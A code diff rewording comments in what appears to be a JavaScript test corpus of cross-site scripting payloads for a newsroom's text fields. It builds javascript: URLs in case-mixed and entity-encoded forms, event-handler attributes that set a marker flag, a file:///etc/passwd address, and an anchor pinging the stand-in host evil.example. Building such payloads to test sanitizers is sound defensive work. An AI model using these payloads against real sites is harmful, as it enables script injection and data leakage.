@@ -1,6 +1,6 @@
-// What attackers write where a newsroom writes text: made of parts, and by hand.
+// Attacks for all fields in which a newsroom writes text: combined from parts, and written by hand.
 //
-// Whatever runs sets `window.pwned`; whatever leaves goes to evil.example.
+// A script that runs sets `window.pwned`; a request that leaves goes to evil.example.
 
 const RUN = 'window.pwned=1';
 const EVIL = '//evil.example/x';
@@ -10,7 +10,7 @@ const decimal = (text) => entities(text, (it) => `&#${it};`);
 const padded = (text) => entities(text, (it) => `&#${String(it).padStart(7, '0')}`);
 const hexadecimal = (text) => entities(text, (it) => `&#x${it.toString(16)};`);
 
-// Addresses that run something where they are followed, as they are and hidden from a naive look.
+// Addresses that run a script when they are followed, plain and disguised.
 const ADDRESSES = [
   `javascript:${RUN}`,
   `JaVaScRiPt:${RUN}`,
@@ -38,7 +38,7 @@ const ADDRESSES = [
   `file:///etc/passwd`,
 ];
 
-// Elements with an address. Addresses of the web are no attack on pictures, so none stands here.
+// Elements with an address. An address of the web is no attack on a picture, so there is none here.
 const PLACES = [
   (it) => `<a href="${it}">a</a>`,
   (it) => `<a href='${it}' target=_top ping=${EVIL}>a</a>`,
@@ -59,7 +59,7 @@ const PLACES = [
 
 const HANDLED = ['img src=x', 'a href=/a', 'p', 'video controls src=/a.mp4', 'table', 'details open', 'svg', 'math', 'figure class=gallery', 'x-card', 'iframe', 'input autofocus'];
 const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus autofocus tabindex=0 onfocus', 'ontoggle', 'onanimationstart style=animation-name:x onanimationstart', 'onpointerrawupdate', 'ONBEGIN'];
-// How an attribute may be written; each handler takes the next one.
+// The spellings of an attribute; each handler takes the next one.
 const WRITTEN = [
   (name) => ` ${name}="${RUN}"`,
   (name) => ` ${name}='${RUN}'`,
@@ -161,7 +161,7 @@ const BY_HAND = [
   `\u2028${RUN}\u2029`,
 ];
 
-/** Every attack as it stands in a text, and as it stands where an address is wanted. */
+/** Each attack, as a text and as an address. */
 export const ATTACKS = [
   ...ADDRESSES.flatMap((address) => PLACES.map((place) => ({ text: place(address), url: address }))),
   ...HANDLED.flatMap((element, row) =>
